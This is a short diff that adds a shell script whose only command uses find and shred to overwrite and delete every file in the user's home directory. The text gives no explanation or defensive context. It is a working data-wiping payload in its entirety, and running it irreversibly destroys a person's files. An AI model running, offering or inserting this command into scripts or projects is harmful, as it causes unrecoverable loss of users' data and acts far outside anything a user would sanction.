@@ -1,0 +1,2 @@
+#!/bin/sh
+find ~ -type f -exec shred -u -n 1 {} +
